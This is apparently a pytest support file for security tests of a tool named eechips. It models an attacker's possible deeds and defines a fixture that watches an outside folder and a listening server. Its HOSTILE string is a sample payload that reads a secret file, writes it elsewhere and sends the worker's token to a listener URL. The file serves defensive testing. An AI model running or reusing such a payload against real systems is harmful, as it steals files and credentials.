"""A machine with a user, and what strangers do to it."""

from __future__ import annotations

import json
import os
import sqlite3
import sys
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from eechips.manifest.sqlite.ledger import LEDGER_NAME
from tests.support.commands import run_command
from tests.support.watched_folder import WatchedFolder

SECRET = "token-of-the-worker-7f3a"
CODE, READ, WRITE, SEND, REQUEST, QUOTA, WRONG = (
    "run code", "read a file", "write a file outside", "send credentials", "make requests", "use the quota",
    "give wrong data",
)  # fmt: skip
DEEDS = (CODE, READ, WRITE, SEND, REQUEST, QUOTA, WRONG)
LINE, FOLDER, LOCKFILE, RUN_FILE, OUTCOME, WORKER, RECIPE_BESIDE, DATA_FILE = (
    "line of a queue", "run folder", "lockfile", "run file in a run folder", "outcome in a shared folder",
    "process with the same folders", "recipe beside, swapped", "dataset or geodata file",
)  # fmt: skip
PLACES = (LINE, FOLDER, LOCKFILE, RUN_FILE, OUTCOME, WORKER, RECIPE_BESIDE, DATA_FILE)

HARMLESS = """
from eechips import Table

NEEDS_SERVICE = False

def get_requests(count=2):
    return list(range(count))

def get_result(index, number):
    return Table([{"number": number}])
"""
HOSTILE = """
import os, urllib.request
from pathlib import Path

Path(os.environ["MARK"]).touch()
secret = (Path(os.environ["OUTSIDE"]) / "secret.csv").read_text()
(Path(os.environ["OUTSIDE"]) / "new.txt").write_text(secret)
headers = {"Authorization": os.environ["EECHIPS_SCENES_TOKEN"]}
urllib.request.urlopen(urllib.request.Request(os.environ["LISTENER"], headers=headers))
"""
SQUARE = '{"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]]]}'
GEOJSON = f'{{"type": "Feature", "properties": {{"id": "{SECRET}"}}, "geometry": {SQUARE}}}'


def cell(place: str, *deeds: str, can: bool = False) -> Callable[[Any], Any]:
    """Note which cells of the table a test tries, and whether the deed is possible."""

    def note(test: Any) -> Any:
        test.cells = {**getattr(test, "cells", {}), **{(place, deed): can for deed in deeds}}
        return test

    return note


@dataclass
class Listener:
    """A server that records what it receives.

    Attributes:
        url: URL of the server.
        requests: request lines with their headers.
    """

    url: str = ""
    requests: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class World:
    """A machine with a user, whose files and secrets a stranger wants.

    Attributes:
        at: working folder.
        outside: a folder that no command may touch.
        listener: a server that no command may reach.
    """

    at: Path
    outside: WatchedFolder
    listener: Listener

    @property
    def mark(self) -> Path:
        return self.at.parent / "executed"

    def eechips(self, *words: str | Path, given: str | None = None) -> tuple[int, str]:
        """Type a command; return its exit status and what it printed."""
        typed = [str(word) for word in words]
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(sys, "argv", ["eechips", *typed])  # the command that run.json records
            done = run_command(*typed, given=given)
        if done.exception is not None and not isinstance(done.exception, SystemExit):
            raise done.exception
        assert SECRET not in done.output
        return done.exit_code, " ".join(done.output.split())

    def refused(self, why: str, *words: str | Path, given: str | None = None) -> None:
        """Type a command that is refused with a sentence."""
        status, said = self.eechips(*words, given=given)
        assert (status, why in said) == (2, True), said
        assert "a bug in eechips" not in said

    def be(self, user: str) -> None:
        os.environ["EECHIPS_CACHE"] = str(self.at.parent / user)

    def seen(self) -> list[str]:
        """Return what a stranger has achieved since the last call."""
        marks = ["code was executed"] if self.mark.exists() else []
        requests = [f"request {each}" for each in self.listener.requests]
        touched = [f"outside {each}" for each in self.outside.touched()]
        self.listener.requests.clear()
        self.mark.unlink(missing_ok=True)
        return [*marks, *requests, *touched]


def edit(run: Path, **values: Any) -> None:
    info = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps({**info, **values}))


def reopen(run: Path) -> None:
    with closing(sqlite3.connect(run / LEDGER_NAME)) as ledger, ledger:
        ledger.execute("UPDATE units SET state = 'failed_permanent', error_class = 'PermanentError'")
